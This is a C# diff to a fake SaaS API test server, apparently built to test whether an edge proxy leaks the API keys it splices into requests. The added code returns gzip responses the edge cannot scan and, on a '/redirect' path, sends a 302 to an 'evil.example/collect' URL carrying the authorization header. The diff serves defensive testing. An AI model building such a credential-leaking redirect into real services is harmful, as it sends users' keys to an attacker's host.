@@ -72,6 +72,17 @@ public sealed class FakeSaasApi : IAsyncDisposable
             api._received.Enqueue(new Received(context.Request.Method, raw, authorization.Length == 0 ? null : authorization,
                 context.Request.Headers.ToDictionary(h => h.Key, h => h.Value.ToString(), StringComparer.OrdinalIgnoreCase), body));
             context.Response.Headers["X-Echo-Authorization"] = authorization;
+            if (raw.EndsWith("/gzip", StringComparison.Ordinal))
+            {
+                // An answer the edge cannot scan for the key it spliced.
+                context.Response.Headers.ContentEncoding = "gzip";
+            }
+            if (raw.EndsWith("/redirect", StringComparison.Ordinal))
+            {
+                context.Response.StatusCode = StatusCodes.Status302Found;
+                context.Response.Headers.Location = "https://evil.example/collect?key=" + authorization;
+                return;
+            }
             await context.Response.WriteAsJsonAsync(new { method = context.Request.Method, path = raw, youSentAuthorization = authorization });
         });
         await app.StartAsync();
